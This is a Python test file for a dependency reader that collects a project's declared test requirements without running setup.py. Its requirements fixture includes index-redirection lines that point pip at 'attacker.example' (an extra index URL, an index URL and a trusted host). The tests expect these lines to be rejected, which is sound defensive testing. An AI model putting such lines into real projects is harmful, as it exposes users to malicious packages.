"""What coder reads as a project's declared test-time dependencies, from its files alone:
requirement specifiers kept, everything that would choose an index or install a path or
a URL left out and named, lock files' pins as constraints."""

from __future__ import annotations

from pathlib import Path

from sandbox.docker import read_declared
from tests.helpers import write_tree

PYPROJECT = """\
[project]
name = "My_Proj"
requires-python = ">=3.10"
dependencies = ["attrs>=22", "tomli; python_version < '3.11'"]

[project.optional-dependencies]
test = ["pytest-mock", "my-proj[fast]"]
fast = ["orjson"]
docs = ["sphinx"]

[dependency-groups]
dev = ["ruff", {include-group = "typing"}]
typing = ["mypy"]
bench = ["asv"]
"""
REQUIREMENTS = """\
# tools for the tests
--extra-index-url https://attacker.example/simple
-i https://attacker.example/simple
--trusted-host attacker.example
-f ./wheels
-e .
./vendor/thing
requests==2.31 --hash=sha256:abc \\
    --hash=sha256:def
freezegun @ https://example.com/freezegun.whl
-r requirements/base.txt
-r ../outside.txt
-c constraints.txt
"""


def test_pyproject_dependencies_test_extras_and_groups_are_read(tmp_path: Path) -> None:
    write_tree(tmp_path, {"pyproject.toml": PYPROJECT})

    declared = read_declared(tmp_path)

    assert declared.requirements == [
        "attrs>=22",
        'tomli; python_version < "3.11"',
        "pytest-mock",
        "orjson",
        "ruff",
        "mypy",
    ]
    assert declared.requires_python == ">=3.10"
    assert declared.left_out == []


def test_requirement_files_keep_specifiers_and_name_what_they_leave_out(tmp_path: Path) -> None:
    write_tree(
        tmp_path,
        {
            "requirements-dev.txt": REQUIREMENTS,
            "requirements/base.txt": "six\n",
            "requirements/docs.txt": "sphinx\n",
            "constraints.txt": "six==1.16.0\n",
        },
    )

    declared = read_declared(tmp_path)

    assert declared.requirements == ["requests==2.31", "six"]
    assert declared.constraints == ["six==1.16.0"]
    left_out = "\n".join(declared.left_out)
    for line in (
        "--extra-index-url https://attacker.example/simple",
        "-i https://attacker.example/simple",
        "--trusted-host attacker.example",
        "-f ./wheels",
        "-e .",
        "./vendor/thing",
        "freezegun @ https://example.com/freezegun.whl",
        "-r ../outside.txt",
    ):
        assert f"requirements-dev.txt: '{line}'" in left_out
    assert len(declared.left_out) == 8


def test_lock_files_pin_what_they_take_from_an_index(tmp_path: Path) -> None:
    uv_lock = """\
[[package]]
name = "attrs"
version = "23.1.0"
source = { registry = "https://pypi.org/simple" }

[[package]]
name = "my-proj"
version = "0.1"
source = { editable = "." }

[[package]]
name = "forked"
version = "1.0"
source = { git = "https://example.com/forked.git" }

[[package]]
name = "numpy"
version = "1.26.4"
source = { registry = "https://pypi.org/simple" }

[[package]]
name = "numpy"
version = "2.1.0"
source = { registry = "https://pypi.org/simple" }
"""
    write_tree(tmp_path, {"pyproject.toml": PYPROJECT, "uv.lock": uv_lock})

    assert read_declared(tmp_path).constraints == ["attrs==23.1.0"]


def test_poetry_projects_declare_names_their_lock_pins(tmp_path: Path) -> None:
    pyproject = """\
[tool.poetry.dependencies]
python = "^3.10"
pendulum = "^3.0"
local = { path = "../local" }

[tool.poetry.group.test.dependencies]
pytest-cov = "*"
"""
    poetry_lock = '[[package]]\nname = "pendulum"\nversion = "3.0.0"\n'
    write_tree(tmp_path, {"pyproject.toml": pyproject, "poetry.lock": poetry_lock})

    declared = read_declared(tmp_path)

    assert declared.requirements == ["pendulum", "pytest-cov"]
    assert declared.constraints == ["pendulum==3.0.0"]
    assert declared.left_out == ["pyproject.toml: local (a path or URL in Poetry)"]


def test_hatch_environments_for_tests_are_read(tmp_path: Path) -> None:
    pyproject = """\
[tool.hatch.envs.default]
dependencies = ["coverage[toml]>=6.5"]

[tool.hatch.envs.test]
extra-dependencies = ["pytest-xdist"]

[tool.hatch.envs.docs]
dependencies = ["mkdocs"]
"""
    write_tree(tmp_path, {"pyproject.toml": pyproject})

    assert read_declared(tmp_path).requirements == ["coverage[toml]>=6.5", "pytest-xdist"]


def test_a_project_with_nothing_declared_reads_nothing(tmp_path: Path) -> None:
    write_tree(tmp_path, {"app.py": "x = 1\n", "pyproject.toml": "[tool.ruff]\n"})

    declared = read_declared(tmp_path)

    assert (declared.requirements, declared.constraints, declared.left_out) == ([], [], [])
    assert declared.requires_python is None


def test_setup_cfg_lists_are_read_and_setup_py_is_never_run(tmp_path: Path) -> None:
    setup_cfg = """\
[metadata]
name = legacy

[options]
install_requires =
    six>=1.10
    # a comment
    legacy-helpers; python_version < "3.8"
tests_require = mock

[options.extras_require]
testing = pytest-cov
docs = sphinx
"""
    marker = tmp_path / "ran"
    write_tree(tmp_path, {"setup.cfg": setup_cfg, "setup.py": f"open({str(marker)!r}, 'w')\n"})

    declared = read_declared(tmp_path)

    assert declared.requirements == [
        "six>=1.10",
        'legacy-helpers; python_version < "3.8"',
        "mock",
        "pytest-cov",
    ]
    assert not marker.exists()
    assert read_declared(write_tree(tmp_path / "bare", {"setup.py": "x = 1\n"})).left_out == [
        "setup.py: not run, and its install_requires are not literal"
    ]


def test_setup_py_literal_lists_are_read_as_text_never_run(tmp_path: Path) -> None:
    """wsproto's shape: its only declaration is `install_requires` in setup.py."""
    marker = tmp_path / "ran"
    setup_py = f"""\
from setuptools import setup
open({str(marker)!r}, "w")
setup(
    name="wsproto",
    install_requires=["h11>=0.9.0,<1"],
    extras_require={{"test": ["pytest-cov"], "docs": ["sphinx"]}},
    tests_require=computed(),
)
"""
    declared = read_declared(write_tree(tmp_path / "ws", {"setup.py": setup_py}))
    assert declared.requirements == ["h11<1,>=0.9.0", "pytest-cov"]
    assert declared.left_out == [] and not marker.exists()
